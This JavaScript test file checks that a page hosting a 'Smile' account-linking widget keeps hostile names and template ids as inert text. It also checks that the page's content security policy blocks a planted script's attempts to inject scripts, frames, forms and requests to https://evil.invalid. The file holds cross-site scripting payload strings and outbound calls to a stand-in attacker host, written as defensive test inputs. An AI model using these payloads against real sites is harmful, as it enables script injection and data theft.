// The page around Smile's widget with a script that means no good, under the page's own policy: what it calls back are
// events and nothing more, what it is given is text, and what it tries beside that is stopped.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { until } from "../window/session.mjs";
import { openDesk } from "./desk.mjs";
import { serveWidget } from "./widget.mjs";

/** Names that would break out of an attribute, of a script, of a page. */
const HOSTILE = `"><script>window.broken = 1</script><img src=x onerror="window.broken = 2">'\u2028&amp;`;
const TEMPLATE = `wtpl-"><svg onload='broken=3'>`;

const CALLBACKS = [
  "onAccountCreated",
  "onAccountConnected",
  "onAccountRemoved",
  "onAccountError",
  "onTokenExpired",
  "onClose",
  "onUploadsCreated",
  "onUploadsRemoved",
  "onUIEvent",
];

let desk;
let widget;

before(async () => {
  desk = await openDesk();
  const { base_url, api_key, api_secret, webhook_secret } = desk.practice.hello.smile;
  widget = await serveWidget(base_url, standIn);
  const add = ["integration", "add", "smile", "--name", "Wink", "--environment", "practice", "--base-url", `${widget.url}/v1`];
  await desk.ctl(add, JSON.stringify({ api_key, api_secret, webhook_secret }));
  await desk.call("customer_save", { name: HOSTILE, owner_id: "hostile" });
});

after(async () => {
  await desk?.close();
  await widget?.close();
});

/** Runs in the page: keeps what it is given, and lets the test call back and try things. */
function standIn() {
  window.stopped = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => window.stopped.push(effectiveDirective));
  window.SmileLinkModal = class {
    constructor(options) {
      window.given = options;
      window.openings = (window.openings ?? 0) + 1;
    }
    open() {}
  };
  // At once, not by the test: what a debugger runs is under no policy.
  try {
    window.evaluated = window.eval("1");
  } catch {
    window.evaluated = null;
  }
  window.misbehave = async () => {
    const put = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
    put("script", { textContent: "window.broken = 4" });
    put("script", { src: "https://evil.invalid/x.js" });
    put("iframe", { src: "https://evil.invalid/" });
    put("img", { src: "https://evil.invalid/x.png" });
    put("form", { action: "https://evil.invalid/", id: "far" });
    document.getElementById("far").submit();
    document.body.insertAdjacentHTML("beforeend", "<b onclick='window.broken = 5'></b>");
    document.querySelector("b").click();
    const sent = await fetch("https://evil.invalid/").then(() => true, () => false);
    await new Promise((done) => setTimeout(done, 200));
    return { sent, stopped: [...new Set(window.stopped)] };
  };
}

/** Opens the page for the customer with the hostile name. */
function open(act) {
  const options = [`wink_template_id=${TEMPLATE}`];
  const opened = async (hub) => {
    const answer = await hub.open();
    await hub.page.waitForFunction(() => window.given !== undefined);
    await act(hub, answer);
    assert.equal(await hub.page.evaluate(() => window.broken), undefined, "nothing of it ran");
  };
  return desk.hub("hostile", options, opened, "Wink");
}

/** Callbacks that the desk has noted, with what they said. */
async function noted(hub) {
  const { timeline } = await hub.show();
  return timeline.filter(({ kind }) => kind === "hub-callback");
}

test("a hostile name and a hostile template stay text on the page", async () => {
  await open(async ({ page }, answer) => {
    const given = await page.evaluate(() => ({ template: window.given.templateId, token: window.given.userToken }));
    assert.equal(given.template, TEMPLATE, "as it was entered, to the letter");
    assert.ok(given.token.length > 8);
    const html = await answer.text();
    assert.ok(!html.includes("<svg") && !html.includes("<img"), "no markup of it");
    const scripts = await page.evaluate(() => [...document.scripts].map(({ src }) => new URL(src).pathname.split("/").pop()));
    assert.deepEqual(scripts, ["page.js", "modal.js", "smile.v2.js"]);
    assert.equal(await page.locator("#hub").getAttribute("data-hub"), null, "the token leaves the page");
  });
});

test("every callback is an event, whatever it says, and proves nothing", async () => {
  await open(async (hub) => {
    await hub.page.evaluate(
      ({ names, told }) => {
        const { userToken } = window.given;
        const data = { accountId: `../accounts/${told}`, userId: told, providerId: told, token: userToken };
        for (const name of names) window.given[name](data);
      },
      { names: CALLBACKS, told: HOSTILE },
    );
    const all = await until("all callbacks", async () => {
      const found = await noted(hub);
      return found.length >= CALLBACKS.length && found;
    });
    assert.deepEqual(all.map(({ to }) => to).sort(), [...CALLBACKS].sort());
    const token = await hub.page.evaluate(() => window.given.userToken);
    for (const { to, detail } of all) {
      assert.ok(detail.includes("<script>"), `${to} is kept as the text it is`);
      assert.ok(!detail.includes(token), `${to} does not keep the token`);
      assert.ok(detail.length <= 300, `${to} is kept short`);
    }
    await hub.trouble("hub-false-success");
    assert.notEqual((await hub.show()).link.state, "completed");
    await hub.page.waitForFunction(() => window.openings === 2);
    const { rows } = await desk.read("account_list", { query: "system:smile" });
    assert.deepEqual(rows, [], "no account comes of it");
  });
});

test("what the script tries beyond its frame is stopped by the policy", async () => {
  await open(async (hub) => {
    const failures = [];
    hub.page.on("requestfailed", (request) => failures.push([new URL(request.url()).hostname, request.failure().errorText]));
    const tried = await hub.page.evaluate(() => window.misbehave());
    assert.equal(tried.sent, false);
    assert.equal(await hub.page.evaluate(() => window.evaluated), null, "no text becomes a program");
    for (const directive of ["script-src-elem", "frame-src", "form-action", "img-src", "connect-src", "script-src-attr", "script-src"])
      assert.ok(tried.stopped.includes(directive), `${directive} of ${tried.stopped}`);
    const stopped = hub.strangers.map((host) => [host, "csp"]);
    assert.deepEqual(failures, stopped, "no request left this machine");
  });
});
